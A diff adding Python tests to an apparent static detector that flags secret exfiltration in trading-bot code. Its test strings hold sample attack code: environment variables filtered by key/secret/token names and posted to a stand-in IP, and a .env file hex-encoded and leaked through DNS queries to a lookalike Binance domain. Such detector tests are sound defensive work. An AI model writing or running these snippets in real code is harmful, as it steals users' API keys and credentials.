@@ -268,3 +268,35 @@ def test_a_downloaded_data_file_handed_to_a_program_is_clean():
            '        fh.write(requests.get("https://data.binance.vision/x.csv").content)\n'
            'def analyse():\n    subprocess.run(["python", "analyse.py", DATA])\n')
     assert found(src) == []
+
+
+# -- 5. the environment selected by name, and DNS look-ups as a channel --------------------------
+
+def test_environment_selected_by_secret_names_is_still_the_environment():
+    # Checkmarx 2024: only the variables named like keys, posted to a webhook
+    for test in ('"KEY" in k or "SECRET" in k', 'k.endswith(("_KEY", "_SECRET"))',
+                 'any(w in k.upper() for w in ("KEY", "TOKEN"))'):
+        src = (f'import json, os, requests\ndef diag():\n    env = {{k: v for k, v in os.environ.items() if {test}}}\n'
+               '    requests.post("http://203.0.113.9/d", data=json.dumps(env))\n')
+        assert found(src) == [(4, "BOT504")], test
+
+
+def test_environment_filtered_to_harmless_names_is_clean():
+    src = ('import os, requests\ndef diag():\n'
+           '    env = {k: v for k, v in os.environ.items() if k in ("LANG", "TZ", "PATH")}\n'
+           '    requests.post("https://telemetry.arbot.dev/v1/env", json=env)\n')
+    assert found(src) == []
+
+
+def test_dotenv_sent_through_dns_lookups():
+    # JFrog 2023: data carried in the names of DNS queries
+    src = ('import binascii, socket\nfrom dotenv import dotenv_values\n'
+           'def probe():\n    blob = binascii.hexlify(repr(dotenv_values(".env")).encode()).decode()\n'
+           '    socket.gethostbyname(blob[:60] + ".t.api-binance-sync.com")\n')
+    assert found(src) == [(5, "BOT504")]
+
+
+def test_dns_health_checks_are_clean():
+    src = ('import os, socket\ndef ok():\n    socket.gethostbyname(os.environ.get("EXCHANGE_HOST", "api.binance.com"))\n'
+           '    return socket.getaddrinfo("api.bybit.com", 443)\n')
+    assert found(src) == []
